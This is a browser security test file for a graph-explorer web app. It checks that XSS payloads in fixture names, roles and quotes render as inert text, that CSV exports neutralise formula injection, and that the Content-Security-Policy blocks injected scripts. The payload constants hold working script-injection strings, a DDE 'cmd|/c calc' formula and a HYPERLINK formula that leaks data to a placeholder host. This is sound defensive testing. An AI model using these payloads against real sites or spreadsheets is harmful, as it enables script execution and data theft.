// Web security in real Chromium. A hostile source (tests/fixtures/hostile: names, titles, roles, summaries and
// quotes holding HTML, script, javascript: URLs, template and formula injection) goes through the real seed; the
// explorer must show every bit of it as literal text in search, details, evidence, career, flows, the table, the
// canvas tooltip and every export, with no dialog, no injected element and no script run. The CSP must stop inline
// script, inline handlers, string eval, foreign scripts and javascript: URLs even when something injects them.
import fs from 'node:fs';
import path from 'node:path';
import type { Driver } from 'neo4j-driver';
import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../seed/csv.js';
import { seedFiles } from '../../seed/index.js';
import {
  ARTIFACTS_DIR,
  type BrowserEnv,
  saveScreenshot,
  searchAndOpen,
  seedArticle,
  useBrowserEnv,
  waitForScene,
} from '../support/browser.js';
import { hoverNode } from '../support/canvas-gestures.js';
import { testNeo4j } from '../support/neo4j.js';

const FIXTURE = path.resolve('tests/fixtures/hostile/hostile-moves.facts.yaml');
const PERSON = `Mallory <img src=x onerror="window.__xss='person';alert('person')">`;
const ORG_A = `Evil<script>window.__xss='org'</script> Labs`;
const ORG_B = `<iframe src="javascript:window.__xss='iframe'"></iframe> Corp`;
const EVIDENCE = `Mallory <img src=x onerror="window.__xss='evidence';alert('evidence')"> left Evil<script>window.__xss='org'</script> Labs in March 2023 after three years as its <b onmouseover="window.__xss='role'">chief scientist</b>.`;
const ROLE = `<b onmouseover="window.__xss='role'">chief scientist</b>`;
const FORMULA = '=HYPERLINK("http://127.0.0.1:1/?leak","click")';
/** Elements the fixture's text would create if it were ever parsed as HTML. */
const INJECTED =
  'img[src="x"], svg[onload], iframe, marquee, [onerror], [onload], [onmouseover], a[href^="javascript"], script:not([src])';

async function seedHostile(driver: Driver): Promise<void> {
  await seedArticle(driver);
  await seedFiles(driver, [FIXTURE], { database: testNeo4j().database });
}

interface Watched {
  page: Page;
  dialogs: string[];
  errors: string[];
}

async function open(env: BrowserEnv, pathAndQuery = '/'): Promise<Watched> {
  const { page, errors } = await env.newPage({ path: pathAndQuery });
  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  return { page, dialogs, errors };
}

/** Nothing ran and nothing was injected: no sentinel, no dialog, no element built from the fixture's markup. */
async function expectInert(w: Watched, where: string): Promise<void> {
  const state = await w.page.evaluate((selector) => {
    // The page's own boot script (inline in <head>, allowed by its hash) is the one inline script expected.
    const boot = [...document.head.querySelectorAll('script:not([src])')].find((s) =>
      s.textContent?.includes('__talentGraphEarlyRequest'),
    );
    const found = [...document.querySelectorAll(selector)]
      .filter((e) => e !== boot)
      .map((e) => e.outerHTML.slice(0, 120));
    // The app's own style elements (CodeMirror) are expected; one holding the fixture's CSS is not.
    for (const st of document.querySelectorAll('style'))
      if (st.textContent?.includes('body{display:none}')) found.push(st.outerHTML.slice(0, 120));
    return { xss: (window as unknown as { __xss?: unknown }).__xss ?? null, found };
  }, INJECTED);
  expect(state, where).toEqual({ xss: null, found: [] });
  expect(w.dialogs, where).toEqual([]);
}

async function exportText(page: Page, item: string): Promise<string> {
  await page.click('[data-testid="export-button"]');
  const [download] = await Promise.all([
    page.waitForEvent('download', { timeout: 30_000 }),
    page.click(`[data-testid="export-${item}"]`),
  ]);
  fs.mkdirSync(ARTIFACTS_DIR, { recursive: true });
  const file = path.join(ARTIFACTS_DIR, `security-${download.suggestedFilename()}`);
  await download.saveAs(file);
  return fs.readFileSync(file, 'utf8');
}

describe('hostile text renders as text everywhere', () => {
  const env = useBrowserEnv({ seed: seedHostile });

  it('in search suggestions, person details, evidence, role, career and the source citation', async () => {
    const w = await open(env);
    const { page } = w;
    await waitForScene(page, 5);
    await page.fill('#search-input', 'mallory');
    const option = page.locator('[role="option"]', { hasText: 'Mallory <img' }).first();
    await option.waitFor({ timeout: 20_000 });
    expect(await option.textContent()).toContain(PERSON);
    await expectInert(w, 'search suggestions');
    await page.locator('#search-input').press('Enter');
    const title = page.locator('[data-testid="details-title"]', { hasText: 'Mallory' });
    await title.waitFor({ timeout: 20_000 });
    expect(await title.textContent()).toBe(PERSON);
    const details = page.locator('[data-testid="node-details"]');
    await details.locator('[data-testid="evidence"]').first().waitFor({ timeout: 20_000 });
    const detailsText = (await details.textContent()) ?? '';
    expect(detailsText).toContain(EVIDENCE);
    expect(detailsText).toContain(ORG_A);
    expect(detailsText).toContain(ROLE);
    expect(detailsText).toContain('<svg onload="window.__xss=\'alias\'">');
    await page.locator('[data-testid="career"]').waitFor({ timeout: 20_000 });
    const career = (await page.locator('[data-testid="career"]').textContent()) ?? '';
    expect(career).toContain(ORG_A);
    expect(career).toContain(ORG_B);
    const citation = (await details.locator('[data-testid="citation"]').first().textContent()) ?? '';
    expect(citation).toContain(`<b onmouseover="window.__xss='publisher'">Hostile</b> Press`);
    await saveScreenshot(page, 'security-person-details');
    await expectInert(w, 'person details');
    // Hover and click every element that carries fixture text, as a curious user would.
    for (const el of await details
      .locator('[data-testid="evidence"], [data-testid="fact"], [data-testid="citation"]')
      .all()) {
      await el.hover();
    }
    await expectInert(w, 'after hovering the details');
  });

  it('in an organisation’s flows panel and the canvas tooltip', async () => {
    const w = await open(env);
    const { page } = w;
    await waitForScene(page, 5);
    await searchAndOpen(page, 'evil labs', 'Labs');
    expect(await page.locator('[data-testid="details-title"]').textContent()).toBe(ORG_A);
    const flows = page.locator('[data-testid="org-flows"]');
    await flows.waitFor({ timeout: 45_000 });
    await page.waitForFunction(
      () => (document.querySelector('[data-testid="org-flows"]')?.textContent ?? '').includes('Corp'),
      null,
      { timeout: 30_000 },
    );
    expect(await flows.textContent()).toContain(ORG_B);
    await expectInert(w, 'organisation flows');
    // The canvas draws labels itself; hovering a node must not build DOM from its name either.
    await page.waitForFunction(
      () =>
        (window as unknown as { __talentGraph?: { visibleNodeIds(): string[] } }).__talentGraph
          ?.visibleNodeIds()
          .includes('org:evil-labs'),
      null,
      { timeout: 30_000 },
    );
    // The pointer on Evil Labs for certain (the canvas names the node hovered), not beside it or on a neighbour:
    // otherwise nothing of its name was drawn for hovering and the check below would prove nothing.
    const point = await hoverNode(page, 'org:evil-labs');
    await page.mouse.move(point.x + 1, point.y + 1);
    expect(await page.locator('[data-testid="canvas"]').getAttribute('data-hovered')).toBe('org:evil-labs');
    await saveScreenshot(page, 'security-canvas-hover');
    await expectInert(w, 'canvas hover');
  });

  it('in the flows view’s table, the flow details with its people and evidence, and the timeline', async () => {
    const w = await open(env, '/?mode=flows');
    const { page } = w;
    await page.waitForFunction(
      () =>
        (window as unknown as { __talentGraph?: { visibleNodeIds(): string[] } }).__talentGraph
          ?.visibleNodeIds()
          .includes('org:iframe-corp'),
      null,
      { timeout: 45_000 },
    );
    await page.click('[data-testid="table-view-button"]');
    const table = page.locator('[data-testid="scene-table"]');
    await table.waitFor();
    const tableText = (await table.textContent()) ?? '';
    expect(tableText).toContain(ORG_A);
    expect(tableText).toContain(ORG_B);
    const row = table
      .locator('tr', { hasText: 'Evil' })
      .filter({ hasText: 'Corp' })
      .filter({ hasText: 'talent flow' });
    await row.getByRole('button', { name: 'talent flow' }).click();
    const flow = page.locator('[data-testid="flow-details"]');
    await flow.waitFor({ timeout: 20_000 });
    const flowText = (await flow.textContent()) ?? '';
    expect(flowText).toContain(PERSON);
    expect(flowText).toContain(EVIDENCE);
    await expectInert(w, 'flow details');

    const timeline = await open(env, '/?mode=timeline');
    await waitForScene(timeline.page, 5);
    const strip = timeline.page.locator('.timeline-strip');
    await strip.waitFor({ timeout: 30_000 });
    await timeline.page.waitForFunction(
      () => (document.querySelector('.timeline-strip')?.textContent ?? '').includes('Mallory'),
      null,
      { timeout: 30_000 },
    );
    expect(await strip.textContent()).toContain('Mallory <img');
    await saveScreenshot(timeline.page, 'security-timeline');
    await expectInert(timeline, 'timeline');
  });

  it('in the scene table and every export: JSON, CSV (formulas neutralised), GraphML and GEXF parse back to the literal text', async () => {
    const w = await open(env);
    const { page } = w;
    await waitForScene(page, 5);
    await searchAndOpen(page, 'mallory', 'Mallory');
    // Put the hostile nodes in the scene: expand Mallory (the explorer's own action).
    await page
      .getByRole('button', { name: /expand/i })
      .first()
      .click();
    await page.waitForFunction(
      () => {
        const ids =
          (
            window as unknown as { __talentGraph?: { visibleNodeIds(): string[] } }
          ).__talentGraph?.visibleNodeIds() ?? [];
        return ['person:mallory-hostile', 'org:evil-labs', 'org:iframe-corp'].every((id) => ids.includes(id));
      },
      null,
      { timeout: 30_000 },
    );

    await page.click('[data-testid="table-view-button"]');
    expect(await page.locator('[data-testid="scene-table"]').textContent()).toContain(PERSON);
    await expectInert(w, 'scene table');

    const json = JSON.parse(await exportText(page, 'exportJson')) as {
      nodes: { id: string; properties: Record<string, unknown> }[];
    };
    expect(json.nodes.find((n) => n.id === 'person:mallory-hostile')?.properties.name).toBe(PERSON);

    const nodesCsv = await exportText(page, 'exportCsvNodes');
    expect(nodesCsv).toContain(`"Mallory <img src=x onerror=""window.__xss='person';alert('person')"">"`);
    // Spreadsheet formulas stay text: no cell starts with one. The hostile company's aliases (formulas) are a list,
    // written as its JSON array text, which starts with [ and so runs no formula, and reads back as the very aliases.
    expect(nodesCsv).not.toMatch(/(^|,)"?=HYPERLINK/m);
    const [head, ...rows] = parseCsv(nodesCsv).map((r) => r.fields);
    const corp = rows.find((r) => r[0] === 'org:iframe-corp')!;
    const aliases = corp[head!.indexOf('aliases:List<String>')]!;
    expect(aliases.startsWith('[')).toBe(true);
    expect(JSON.parse(aliases)).toEqual(expect.arrayContaining([FORMULA, '+cmd|/c calc|!A1', '@SUM(1+1)']));
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]/);
    const edgesCsv = await exportText(page, 'exportCsvEdges');
    expect(edgesCsv).toContain('chief scientist');

    // The XML exports are parsed by the browser's own XML parser: well-formed, and the hostile text comes back as
    // character data, not as elements.
    for (const item of ['exportGraphml', 'exportGexf']) {
      const xml = await exportText(page, item);
      const parsed = await page.evaluate((text) => {
        const doc = new DOMParser().parseFromString(text, 'application/xml');
        const names = new Set([...doc.getElementsByTagName('*')].map((e) => e.localName));
        return {
          error: doc.getElementsByTagName('parsererror').length,
          foreign: ['script', 'img', 'iframe', 'svg', 'b', 'marquee', 'style'].filter((n) => names.has(n)),
          text: doc.documentElement.textContent ?? '',
          attrs: [...doc.getElementsByTagName('*')]
            .flatMap((e) => [...e.attributes].map((a) => a.value))
            .join('\n'),
        };
      }, xml);
      expect(parsed.error, item).toBe(0);
      expect(parsed.foreign, item).toEqual([]);
      expect(`${parsed.text}\n${parsed.attrs}`, item).toContain(PERSON);
      expect(`${parsed.text}\n${parsed.attrs}`, item).toContain(ORG_A);
    }
    await expectInert(w, 'exports');
  });

  it('in a shared link whose query, parameters and selection are hostile', async () => {
    const q = encodeURIComponent(
      `MATCH (p:Person {id: $id}) RETURN p.name AS \`<img src=x onerror=alert('col')>\`, p`,
    );
    const params = encodeURIComponent(
      JSON.stringify({ id: 'person:mallory-hostile', x: "<script>window.__xss='param'</script>" }),
    );
    const w = await open(
      env,
      `/?q=${q}&params=${params}&sel=${encodeURIComponent("<img src=x onerror=alert('sel')>")}&n=${encodeURIComponent('"><script>alert(1)</script>')}`,
    );
    await w.page.waitForFunction(
      () =>
        (window as unknown as { __talentGraph?: { visibleNodeIds(): string[] } }).__talentGraph
          ?.visibleNodeIds()
          .includes('person:mallory-hostile'),
      null,
      { timeout: 45_000 },
    );
    await expectInert(w, 'shared link');
  });
});

describe('the Content-Security-Policy in the browser', () => {
  const env = useBrowserEnv();

  it('is sent with the page and blocks injected inline script, inline handlers, string eval, foreign script and javascript: URLs', async () => {
    const w = await open(env);
    const { page } = w;
    const response = await page.goto(env.baseUrl + '/');
    const policy = (await response!.headerValue('content-security-policy')) ?? '';
    // 'self' and the hash of the page's own boot script, nothing else (no 'unsafe-inline', no other origin).
    expect(policy).toMatch(/script-src 'self' 'sha256-[A-Za-z0-9+/]+=*'(;|$)/);
    await waitForScene(page, 5);
    const outcome = await page.evaluate(async () => {
      const w = window as unknown as Record<string, unknown>;
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) =>
        violations.push(`${e.effectiveDirective} ${e.blockedURI}`),
      );
      // 1. an inline <script> element
      const s = document.createElement('script');
      s.textContent = "window.__csp_inline = 'ran'";
      document.body.appendChild(s);
      // 2. an inline event handler
      const img = document.createElement('img');
      img.setAttribute('onerror', "window.__csp_handler = 'ran'");
      img.src = 'data:,not-an-image';
      document.body.appendChild(img);
      // 3. string eval through a timer
      try {
        (window.setTimeout as unknown as (code: string, ms: number) => number)(
          "window.__csp_timer = 'ran'",
          0,
        );
      } catch {
        // refused synchronously: as good
      }
      // 4. a script from another origin
      const foreign = document.createElement('script');
      foreign.src = 'http://127.0.0.1:9/evil.js';
      document.body.appendChild(foreign);
      // 5. a javascript: URL
      const a = document.createElement('a');
      a.href = "javascript:window.__csp_link='ran'";
      document.body.appendChild(a);
      a.click();
      // 6. an <object> / <embed>
      const obj = document.createElement('object');
      obj.data = 'data:text/html,<script>parent.__csp_object=1</script>';
      document.body.appendChild(obj);
      // Wait for the browser to report each block (a condition with a ceiling: a loaded machine reports late); by
      // then anything the policy let through would have run.
      const expected = [
        /script-src-elem inline/,
        /script-src-attr inline/,
        /script-src eval/,
        /script-src-elem http:\/\/127\.0\.0\.1:9\/evil\.js/,
        /object-src data/,
      ];
      const deadline = Date.now() + 60_000;
      while (Date.now() < deadline && !expected.every((re) => violations.some((v) => re.test(v))))
        await new Promise((r) => setTimeout(r, 50));
      img.remove();
      return {
        ran: ['__csp_inline', '__csp_handler', '__csp_timer', '__csp_link', '__csp_object'].filter(
          (k) => k in w,
        ),
        violations,
      };
    });
    expect(outcome.ran).toEqual([]);
    const directives = outcome.violations.join('\n');
    expect(directives).toMatch(/script-src-elem inline/);
    expect(directives).toMatch(/script-src-attr inline/);
    expect(directives).toMatch(/script-src eval/);
    expect(directives).toMatch(/script-src-elem http:\/\/127\.0\.0\.1:9\/evil\.js/);
    expect(directives).toMatch(/object-src data/);
    expect(w.dialogs).toEqual([]);
    // The app itself still works under the policy: no violation of its own while it ran.
    expect(
      w.errors.filter(
        (e) => /Content Security Policy/i.test(e) && !/evil|__csp|data:|inline|eval|javascript/i.test(e),
      ),
    ).toEqual([]);
  });
});
